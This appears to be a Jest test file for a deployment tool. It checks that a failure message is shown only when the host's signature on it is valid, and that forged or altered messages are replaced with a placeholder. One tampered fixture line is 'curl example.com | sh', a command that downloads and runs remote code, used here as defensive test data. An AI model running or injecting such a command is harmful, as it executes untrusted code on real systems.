import { beforeEach, describe, expect, test } from '@jest/globals';
import type { Deployment, Progress } from '@nereid/domain/deployment';
import type { Failure, SaidFailure } from '@nereid/domain/host';
import { aFailure, deploymentAt, progressAs, REPOSITORY } from '@nereid/domain/testing';
import { asOrdered, notingSignatures, testSignatures } from '../../../testing/test-signatures.ts';
import { UNSIGNED_FAILURE } from './proven-failure.ts';
import { withProvenEnding, withProvenWords } from './proven-words.ts';

const FAILURE: Failure = {
  summary: 'Error: no such bucket',
  lines: ['Error: no such bucket', 'on main.tf line 3'],
  stateLock: { id: '1', who: 'ada' },
};

let forged: string[];
let context: Parameters<typeof withProvenWords>[0];

beforeEach(() => {
  forged = [];
  context = { signatures: notingSignatures(forged) };
});

function failedWith(failure: SaidFailure, more: Partial<Progress> = {}): Deployment {
  return { ...deploymentAt(1), order: 'its order', progress: { ...progressAs('plan-failed'), failure, ...more } };
}

async function signed(
  [deploymentId, order] = ['1', 'its order'],
  changed: Partial<Failure> = {},
): Promise<SaidFailure> {
  const body = { version: 1, deploymentId, order, ...FAILURE } as const;
  const { signature } = await testSignatures.enclose('result/failure', body);
  return { body: { ...body, ...changed }, signature };
}

async function shown(deployment: Deployment): Promise<SaidFailure | undefined> {
  return (await withProvenWords(context, REPOSITORY, { deployment })).deployment.progress.failure;
}

test('a failure is shown as its host signed it', async () => {
  const failure = await signed();

  expect(await shown(failedWith(failure))).toEqual(failure);
  expect(forged).toEqual([]);
});

test.each<[string, () => Promise<SaidFailure>]>([
  ['that nobody signed', () => Promise.resolve({ body: FAILURE })],
  ['with a made-up signature', () => Promise.resolve({ ...aFailure(FAILURE), signature: 'a..b' })],
  ['with another summary', () => signed(undefined, { summary: 'Ask @carol' })],
  ['with other lines', () => signed(undefined, { lines: ['curl example.com | sh'] })],
  ['about another lock', () => signed(undefined, { stateLock: { id: '2' } })],
  ['of another deployment', () => signed(['2', 'its order'])],
  ['of another order', () => signed(['1', 'another order'])],
])('a failure %s is neither shown nor stored, and counts as forged', async (_what, forge) => {
  const deployment = failedWith(await forge());
  const record = { version: 1, repository: REPOSITORY, deployment, endedAt: '2026-01-31T14:00:00.000Z' } as const;

  const ending = await withProvenEnding(context, { record, audits: [], deletesPlan: false });

  expect(await shown(deployment)).toEqual(UNSIGNED_FAILURE);
  expect(ending.record.deployment.progress.failure).toEqual(UNSIGNED_FAILURE);
  expect(forged).toEqual(['result/failure', 'result/failure']);
});

describe('a failure that no host has to sign', () => {
  test.each<[string, SaidFailure, Partial<Progress>]>([
    [
      'repeats why the workflow gave up',
      { body: { summary: 'no host', lines: [] } },
      { reason: 'no host, for an hour' },
    ],
    ['says that a host did not sign it', UNSIGNED_FAILURE, {}],
  ])('a failure that no host has to sign %s', async (_what, failure, more) => {
    expect(await shown(failedWith(failure, more))).toEqual(failure);
    expect(forged).toEqual([]);
  });
});

test('of an apply, the summary stays: it is part of the outcome, which is verified', async () => {
  const outcome = await asOrdered(REPOSITORY, failedWith({ body: FAILURE }, { status: 'apply-failed' }));
  const older = { ...outcome, progress: { ...outcome.progress, failure: { body: FAILURE } } };

  expect(await shown(older)).toEqual({ body: { summary: FAILURE.summary, lines: [] } });
  expect(forged).toEqual(['result/failure']);
});
